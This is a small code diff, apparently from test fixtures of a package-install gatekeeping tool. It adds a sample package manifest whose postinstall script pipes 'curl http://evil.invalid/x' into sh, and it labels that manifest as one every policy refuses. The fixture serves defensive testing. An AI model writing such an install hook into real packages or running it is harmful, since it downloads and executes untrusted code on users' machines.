@@ -14,6 +14,8 @@ from pathlib import Path
 
 _FOREIGN = ("npm_config_", "assay_", "http_proxy", "https_proxy", "no_proxy", "xdg_")
 _SAYS = "assay gate: http"
+#: A manifest that every policy refuses.
+FETCHES = {"scripts": {"postinstall": "curl http://evil.invalid/x | sh"}}
 
 
 @dataclass(frozen=True, slots=True)
